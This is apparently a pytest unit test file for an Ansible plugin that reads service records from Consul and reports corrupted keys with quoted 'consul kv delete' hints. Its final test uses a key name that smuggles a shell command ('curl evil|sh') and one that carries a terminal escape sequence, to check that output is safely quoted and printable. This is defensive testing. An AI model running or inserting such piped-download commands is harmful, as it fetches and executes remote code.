# Copyright (c) Longshore contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import annotations

import typing as t

import pytest

from ansible_collections.longshore.fleet.plugins.module_utils._stories.release.info import read_services
from tests.unit.consul_model import ConsulModel

NOTE = b'{"release": "r-1", "action": "replace", "when": "then", "result": "done"}'


def spoilt(path: str, value: bytes) -> t.Any:
    """Return a Consul with a good note and one key, below one service."""
    return ConsulModel({f"longshore/services/web/{key}": v for key, v in (("nodes/n2/web", NOTE), (path, value))})


@pytest.mark.parametrize(
    ("path", "value"),
    [
        pytest.param("nodes/n1/web", b"\xff", id="bytes that are no text"),
        pytest.param("nodes/n1/web", b"[]", id="list"),
        pytest.param("nodes/n1/web", b"[" * 100000, id="nested without an end"),
        pytest.param("nodes/n1/web", b'{"doing": "drain"}', id="keys missing"),
        pytest.param("nodes/n1/web", NOTE.replace(b'"then"', b"12"), id="time"),
        pytest.param("nodes/n1/web", NOTE.replace(b'"done"', b'"done", "limit": "x"'), id="limit"),
        pytest.param("nodes/n1", b"", id="node without instance"),
        pytest.param("current", b"\xff", id="current"),
        pytest.param("drains", b'[{"when": "then"}]', id="drains"),
        pytest.param("releases/r-1", b"[" * 100000, id="record"),
    ],
)
def test_a_key_that_somebody_has_spoilt_is_told_and_hides_no_other(path: str, value: bytes) -> None:
    told = read_services(spoilt(path, value), "longshore")["web"].to_result()
    assert len(told["problems"]) == 1
    key = f"longshore/services/web/{path}"
    assert key in told["problems"][0]
    assert f"consul kv delete {key}" in told["problems"][0]
    assert told["nodes"]["n2"]["web"]["result"] == "done"


def test_a_lock_that_somebody_has_spoilt_is_a_free_one() -> None:
    told = read_services(spoilt("lock", b"[" * 100000), "longshore")["web"].to_result()
    assert (told["problems"], told["lock"], told["session"]) == ([], "", "")


@pytest.mark.parametrize(
    ("service", "elsewhere", "found"),
    [
        pytest.param(None, {}, {"db": "longshore", "web": "longshore"}, id="all below one prefix"),
        pytest.param(None, {"web": "/fleet/a/"}, {"db": "longshore", "web": "fleet/a"}, id="one of them elsewhere"),
        pytest.param(None, {"web": "longshore/"}, {"db": "longshore", "web": "longshore"}, id="the usual one, told"),
        pytest.param("web", {"web": "fleet/a"}, {"web": "fleet/a"}, id="the named one elsewhere"),
        pytest.param("db", {"web": "fleet/a"}, {"db": "longshore"}, id="the named one, and another elsewhere"),
    ],
)
def test_each_service_is_read_below_its_own_prefix(
    service: str | None, elsewhere: dict[str, str], found: dict[str, str]
) -> None:
    keys = ("fleet/a/services/web", "fleet/a/services/other", "longshore/services/db", "longshore/services/web")
    kv = t.cast(t.Any, ConsulModel({f"{key}/current": f"{key}/current".encode() for key in keys}))
    told = {name: info.to_result() for name, info in read_services(kv, "longshore", service, elsewhere).items()}
    assert {name: info["prefix"] for name, info in told.items()} == found
    assert {name: info["current"] for name, info in told.items()} == {
        name: f"{prefix}/services/{name}/current" for name, prefix in found.items()
    }


def test_a_key_that_somebody_has_made_for_a_shell_or_a_terminal_harms_neither() -> None:
    told = read_services(spoilt("nodes/x; curl evil|sh/web", b""), "longshore")["web"].to_result()
    assert told["problems"][0].endswith("(consul kv delete 'longshore/services/web/nodes/x; curl evil|sh/web').")
    told = read_services(spoilt("releases/r\x1b[2J\nnode1: none", b"{}"), "longshore")["web"].to_result()
    assert told["problems"][0].isprintable()
    assert r"(consul kv delete $'longshore/services/web/releases/r\x1b[2J\nnode1: none')" in told["problems"][0]
